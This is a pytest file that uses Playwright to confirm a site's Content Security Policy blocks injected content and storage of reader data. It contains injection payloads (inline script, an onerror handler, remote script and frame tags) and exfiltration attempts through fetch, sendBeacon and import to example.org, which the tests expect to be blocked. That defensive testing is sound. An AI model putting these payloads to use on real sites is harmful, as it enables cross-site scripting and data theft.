"""The policy of pages and embeds in a real browser: what content might bring stays inert, what readers do is let through, nothing is kept."""

import pytest
from pages import go_live

# What to put into a page, and what must not come of it.
_NEITHER = "() => window.harmed !== true && getComputedStyle(document.body).outlineStyle === 'none'"
FOREIGN = {
    "inline script": "<script>harmed = true</script>",
    "script of another host": '<script src="//example.org/harm.js"></script>',
    "event handler": '<img src="data:," alt="" onerror="harmed = true">',
    "inline style": "<style>body { outline: solid }</style>",
    "style attribute": '<p style="outline: solid">Words</p>',
    "style of another host": '<link rel="stylesheet" href="//example.org/harm.css">',
    "picture of another host": '<img src="//example.org/harm.png" alt="">',
    "frame of another host": '<iframe title="Harm" src="//example.org/"></iframe>',
    "base": '<base href="//example.org/">',
}


@pytest.fixture
def sent(page):
    """What went out to the other host."""
    found = []

    def answer(route):
        found.append(route.request.url)
        route.fulfill(body="")

    page.route("http://example.org/**", answer)
    return found


def with_it(page, address, html):
    """Open an address of the site with *html* in it."""

    def answer(route):
        given = route.fetch()
        route.fulfill(response=given, body=given.text().replace("</main>", f"{html}</main>", 1))

    page.route(address, answer)
    page.goto(address)


@pytest.mark.parametrize("address", ["/passages/trade/", "/embed/oil-share/"])
@pytest.mark.parametrize("foreign", FOREIGN.values(), ids=FOREIGN)
def test_what_was_put_into_a_page_is_refused(page, site, refused, sent, address, foreign):
    with_it(page, site + address, foreign)
    assert refused and all("Content Security Policy" in each for each in refused)
    assert page.evaluate(_NEITHER) and sent == []
    refused.clear()


def test_a_page_as_it_is_has_nothing_refused(page, site, refused):
    with_it(page, site + "/passages/trade/", "<p>Words</p>")
    assert refused == []


@pytest.mark.parametrize(
    "send",
    [
        "fetch('//example.org/', { mode: 'no-cors' })",
        "new Promise((done, fail) => navigator.sendBeacon('//example.org/', 'x') ? done() : fail())",
        "import('//example.org/harm.js')",
    ],
)
def test_a_script_that_got_in_could_send_nothing_away(page, site, refused, sent, send):
    page.goto(site + "/embed/oil-share/")
    page.evaluate(f"Promise.resolve({send}).catch(() => 0)")
    assert refused and sent == []
    refused.clear()


def test_nothing_is_kept_of_a_reader_but_the_choice_of_colours(page, site):
    page.goto(site + "/charts/oil-share/")
    go_live(page, "oil-share")
    page.locator(".md-search__input").click()
    page.keyboard.type("oil")
    page.locator(".md-search-result__meta", has_text="matching").wait_for()
    page.keyboard.press("Escape")
    page.locator(".md-header__option label:visible").click()
    page.goto(site + "/embed/oil-share/")
    go_live(page, "oil-share")
    assert page.context.cookies() == []
    kept = page.evaluate("[...Object.keys(localStorage), ...Object.keys(sessionStorage)]")
    assert [name for name in kept if not name.endswith("__palette")] == [] and len(kept) == 1
    assert page.evaluate("indexedDB.databases()") == [] and page.evaluate("caches.keys()") == []
